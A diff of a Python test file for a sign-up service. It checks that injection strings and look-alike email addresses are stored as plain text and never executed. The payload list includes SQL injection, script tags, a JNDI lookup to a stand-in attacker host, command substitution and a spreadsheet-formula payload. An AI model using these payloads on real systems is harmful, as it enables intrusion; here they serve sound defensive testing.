@@ -12,9 +12,10 @@ from tests.support.events import json_event
 from tests.support.factories import EMAIL, PASSWORD, get_user, log_in, register, registration
 from tests.support.functions import authorize, call
 
-pytestmark = [pytest.mark.accounts, pytest.mark.aurora_dsql]
+pytestmark = [pytest.mark.accounts, pytest.mark.sqlite]
 
 
+@pytest.mark.aurora_dsql
 @pytest.mark.asvs("1.2.2", "4.1.1", "15.3.1")
 def test_answers_201_with_the_user_and_its_location(database):
     answer = register()
@@ -47,14 +48,13 @@ def test_stores_a_peppered_bcrypt_hash_and_not_the_password(database):
     assert (row.role, row.status, row.token_version) == ("user", "active", 0)
 
 
-@pytest.mark.parametrize(
-    "written",
-    ["1980-04-14", "1980-04-14T10:00:00Z", "1980-04-14T00:30:00+02:00", "1980-04-14T23:59:59.999-11:00"],
-)
-def test_date_of_birth_may_be_a_full_iso_time_and_comes_back_as_the_date_that_was_written(database, written):
-    answer = register(date_of_birth=written)
-    assert answer.json["date_of_birth"] == "1980-04-14"
-    assert database.execute(select(users.c.date_of_birth)) == [(date(1980, 4, 14),)]
+@pytest.mark.aurora_dsql
+def test_date_of_birth_with_a_time_is_stored_as_the_date_that_was_written(database):
+    written = ["1980-04-14", "1980-04-14T10:00:00Z", "1980-04-14T00:30:00+02:00", "1980-04-14T23:59:59.999-11:00"]
+    for number, text in enumerate(written):
+        answer = register(date_of_birth=text, email=f"person{number}@example.com")
+        assert answer.json["date_of_birth"] == "1980-04-14", text
+    assert database.execute(select(users.c.date_of_birth)) == [(date(1980, 4, 14),)] * len(written)
 
 
 def test_date_of_birth_may_be_any_day_from_1900_to_yesterday(database):
@@ -64,21 +64,19 @@ def test_date_of_birth_may_be_any_day_from_1900_to_yesterday(database):
     assert database.count(users) == 2
 
 
-@pytest.mark.parametrize(
-    ("written", "stored"),
-    [
-        ("Person@Example.COM", "person@example.com"),
-        ("person+tag@example.com", "person+tag@example.com"),
-        ("person@bücher.example", "person@xn--bcher-kva.example"),
-        ("person@BÜCHER.example", "person@xn--bcher-kva.example"),
-    ],
-)
 @pytest.mark.usefixtures("database")
-def test_email_is_stored_in_its_one_normal_form(written, stored):
-    assert register(email=written).json["email"] == stored
-    assert register(email=stored).code == "email_taken"
+def test_email_is_stored_in_its_one_normal_form():
+    for written, stored in {
+        "Person@Example.COM": "person@example.com",
+        "person+tag@example.com": "person+tag@example.com",
+        "person@bücher.example": "person@xn--bcher-kva.example",
+        "other@BÜCHER.example": "other@xn--bcher-kva.example",
+    }.items():
+        assert register(email=written).json["email"] == stored
+        assert register(email=stored).code == "email_taken"
 
 
+@pytest.mark.aurora_dsql
 @pytest.mark.usefixtures("database")
 def test_names_of_every_script_are_kept():
     names = ["Zoë", "李", "محمد", "O\u2019Brien-Smith Jr.", "نگار\u200cنامه", "Nǃxau ǂToma"]  # noqa: RUF001 - they look so
@@ -86,37 +84,41 @@ def test_names_of_every_script_are_kept():
         assert register(name=name, email=f"person{number}@example.com").json["name"] == name
 
 
+CODE = [
+    "Robert'); DROP TABLE users; --",
+    'x" OR "1"="1',
+    "<script>alert(1)</script>",
+    '","role":"admin","x":"',
+    "{0.__class__.__init__.__globals__} %s %n",
+    "${jndi:ldap://attacker.example/x} $(id) `id` #{7*7} {{7*7}}",
+    "=cmd|'/c calc'!A1",
+    "%27%20OR%201=1 &lt;b&gt; \\u0041 \\x41",
+]
+
+
 @pytest.mark.asvs("1.1.1", "1.1.2", "1.2.1", "1.2.3", "1.2.9", "1.3.2", "1.3.10")
-@pytest.mark.parametrize(
-    "text",
-    [
-        "Robert'); DROP TABLE users; --",
-        'x" OR "1"="1',
-        "<script>alert(1)</script>",
-        '","role":"admin","x":"',
-        "{0.__class__.__init__.__globals__} %s %n",
-        "${jndi:ldap://attacker.example/x} $(id) `id` #{7*7} {{7*7}}",
-        "=cmd|'/c calc'!A1",
-        "%27%20OR%201=1 &lt;b&gt; \\u0041 \\x41",
-    ],
-)
-def test_what_is_code_elsewhere_is_text_here(database, text):
-    """It comes back as it was sent, decoded once and encoded once, and nothing has acted on it."""
-    assert register(name=text).json["name"] == text
-    assert register(name=text, email="second@example.com").json["role"] == "user"
-    assert database.execute(select(users.c.name)) == [(text,), (text,)]
-    pair = log_in().json
-    assert get_user(authorize(pair["access_token"])["principalId"], token=pair["access_token"]).json["name"] == text
+@pytest.mark.aurora_dsql
+def test_text_that_is_code_elsewhere_is_stored_and_returned_as_text(database):
+    """The service decodes it once and encodes it once, and nothing executes it."""
+    for number, text in enumerate(CODE):
+        email = f"person{number}@example.com"
+        user = register(name=text, email=email).json
+        assert (user["name"], user["role"]) == (text, "user")
+        pair = log_in(email).json
+        assert authorize(pair["access_token"])["principalId"] == user["id"]
+        assert get_user(user["id"], token=pair["access_token"]).json["name"] == text
+    assert database.execute(select(users.c.name).order_by(users.c.email)) == [(text,) for text in CODE]
 
 
 @pytest.mark.asvs("1.2.4")
-@pytest.mark.parametrize("email", ["o'or'1'='1@example.com", "a{0}$b|`id`@example.com"])
-def test_an_address_finds_its_own_account_whatever_it_would_mean_to_a_database(database, email):
-    register(email=email, name="Other Person")
+@pytest.mark.aurora_dsql
+def test_address_that_is_sql_finds_its_own_account_alone(database):
     register()
-    assert log_in(email).status == 200
+    for email in ("o'or'1'='1@example.com", "a{0}$b|`id`@example.com"):
+        register(email=email, name="Other Person")
+        assert log_in(email).status == 200
     assert log_in("x'or'1'='1@example.com").status == 401
-    assert database.count(users) == 2
+    assert database.count(users) == 3
 
 
 @pytest.mark.usefixtures("database")
@@ -124,6 +126,7 @@ def test_names_are_trimmed_and_composed():
     assert register(name="  Zoe\u0308  ").json["name"] == "Zoë"
 
 
+@pytest.mark.aurora_dsql
 def test_a_taken_address_answers_409_and_keeps_the_first_account(database):
     register(name="First Person")
     answer = register(name="Second Person")
@@ -147,35 +150,31 @@ def test_a_duplicate_sign_up_costs_a_hash_too(hash_costs):
 
 @pytest.mark.asvs("2.2.2", "6.3.2", "6.4.2", "8.2.3", "15.3.3")
 @pytest.mark.threat("function-privilege-in-body")
-@pytest.mark.parametrize(
-    "field",
-    [
-        *("role", "status", "id", "token_version", "created_at", "password_hash", "is_admin", "__proto__"),
-        *("password_hint", "security_question", "security_answer"),  # ASVS 5.0 6.4.2: there are none
-    ],
-)
-def test_a_registration_cannot_set_role_or_status_or_anything_else(database, field):
-    answer = register(**{field: "admin"})
-    assert (answer.status, answer.fields) == (422, {field})
+def test_registration_with_a_role_or_another_privilege_is_rejected(database):
+    privileges = ["role", "status", "id", "token_version", "created_at", "password_hash", "is_admin", "__proto__"]
+    recovery = ["password_hint", "security_question", "security_answer"]  # ASVS 5.0 6.4.2: there are none.
+    for field in (*privileges, *recovery):
+        answer = register(**{field: "admin"})
+        assert (answer.status, answer.fields) == (422, {field})
     assert database.count(users) == 0
 
 
+LOOK_ALIKES = [
+    "perso\u043d@example.com",  # a Cyrillic letter
+    "p\u0435rson@example.com",  # a Cyrillic "e"
+    "person\uff20example.com",  # a full-width "@"
+    "\uff50erson@example.com",  # a full-width "p"
+    "per\u017fon@example.com",  # a long s, which upper case turns into "S"
+    "person@example\u3002com",  # an ideographic full stop
+]
+
+
 @pytest.mark.asvs("10.3.3")
-@pytest.mark.parametrize(
-    "look_alike",
-    [
-        "perso\u043d@example.com",  # a Cyrillic letter
-        "p\u0435rson@example.com",  # a Cyrillic "e"
-        "person\uff20example.com",  # a full-width "@"
-        "\uff50erson@example.com",  # a full-width "p"
-        "per\u017fon@example.com",  # a long s, which upper case turns into "S"
-        "person@example\u3002com",  # an ideographic full stop
-    ],
-)
-def test_a_look_alike_address_never_becomes_another_persons_account(database, look_alike):
+def test_look_alike_of_an_address_gets_no_account(database):
     register(email=EMAIL)
-    answer = register(email=look_alike)
-    assert (answer.status, answer.code) in [(422, "validation_failed"), (409, "email_taken")]
+    for look_alike in LOOK_ALIKES:
+        answer = register(email=look_alike)
+        assert (answer.status, answer.code) in [(422, "validation_failed"), (409, "email_taken")], look_alike
     assert database.execute(select(users.c.email)) == [(EMAIL,)]
 
 
@@ -187,60 +186,52 @@ def test_a_dotless_i_never_matches_an_i(database):
 
 
 @pytest.mark.asvs("6.2.5")
-@pytest.mark.parametrize(
-    "password",
-    [
+@pytest.mark.usefixtures("database")
+def test_long_password_of_any_script_is_accepted():
+    passwords = [
         "zebra violin 42",  # 15 characters
         "drums " * 42 + "end",  # 255
         "Ünïcödé übermäßig größe",
         "五十音順に並べた合言葉は長い方がよい",
         "🦉🌵🎻🧭🪂🧊🥁🪁🛶🧶🪗🥨🧲🪕🧵",
-    ],
-)
-@pytest.mark.usefixtures("database")
-def test_a_password_may_be_long_and_of_any_script(password):
-    assert register(password=password).status == 201
-    assert log_in(password=password).status == 200
-    assert log_in(password=password[:-1]).status == 401
+    ]
+    for number, password in enumerate(passwords):
+        email = f"person{number}@example.com"
+        assert register(password=password, email=email).status == 201
+        assert log_in(email, password).status == 200
+        assert log_in(email, password[:-1]).status == 401
+
+
+def accepted(database, passwords):
+    """Return which of ``passwords`` a registration accepts, or rejects with an error that does not name the field."""
+    answers = {password: register(password=password) for password in passwords}
+    assert database.count(users) == 0
+    return [password for password, answer in answers.items() if (answer.status, answer.fields) != (422, {"password"})]
 
 
 @pytest.mark.asvs("6.2.1")
-@pytest.mark.parametrize(
-    "password",
-    [
+def test_password_that_is_too_short_or_too_long_is_rejected(database):
+    passwords = [
         "",
         "zebra violin 4",  # 14 characters
         "e\u0301" * 14,  # 28 code points as typed, 14 after NFKC
         "a" * 257,
         "correct violin " * 20,  # 300
         "\ufdfa" * 15,  # one code point as typed, eighteen after NFKC: 270
-    ],
-)
-def test_a_password_that_is_too_short_or_too_long_is_refused_and_never_truncated(database, password):
-    answer = register(password=password)
-    assert (answer.status, answer.fields) == (422, {"password"})
-    assert database.count(users) == 0
+    ]
+    assert accepted(database, passwords) == []
 
 
 @pytest.mark.asvs("6.2.4")
-@pytest.mark.parametrize(
-    "password",
-    ["aaaaaaaaaaaaaaaa", "123456789012345678", "qwertyuiopasdfghjkl", "passwordpassword", "1qaz2wsx3edc4rfv"],
-)
-def test_a_common_or_guessable_password_is_refused(database, password):
-    answer = register(password=password)
-    assert (answer.status, answer.fields) == (422, {"password"})
-    assert database.count(users) == 0
+def test_common_or_guessable_password_is_rejected(database):
+    passwords = ["aaaaaaaaaaaaaaaa", "123456789012345678", "qwertyuiopasdfghjkl", "passwordpassword"]
+    assert accepted(database, [*passwords, "1qaz2wsx3edc4rfv"]) == []
 
 
 @pytest.mark.asvs("2.2.3", "6.2.11")
-@pytest.mark.parametrize(
-    "password", ["TestPerson-1980!", "person@example.com", "Engineer Person Test", "person.test.person.2024"]
-)
-def test_a_password_made_of_the_persons_own_data_is_refused(database, password):
-    answer = register(password=password)
-    assert (answer.status, answer.fields) == (422, {"password"})
-    assert database.count(users) == 0
+def test_password_made_of_the_users_own_data_is_rejected(database):
+    passwords = ["TestPerson-1980!", "person@example.com", "Engineer Person Test", "person.test.person.2024"]
+    assert accepted(database, passwords) == []
 
 
 @pytest.mark.usefixtures("database")
@@ -264,13 +255,3 @@ def test_every_character_of_a_password_counts():
 def test_content_type_may_name_a_charset():
     event = json_event("POST", "/users", registration(), headers={"Content-Type": "application/json; charset=utf-8"})
     assert call("register", event).status == 201
-
-
-@pytest.mark.usefixtures("environment")
-def test_without_shared_storage_it_says_what_to_run(monkeypatch):
-    """A plain ``sam local start-api``: each container would keep a database of its own."""
-    monkeypatch.setenv("DATA_DIR", "/nowhere")
-    answer = register()
-    assert (answer.status, answer.code) == (503, "storage_not_mounted")
-    assert "make sam" in answer.json["detail"]
-    assert answer.headers["retry-after"] == "5"
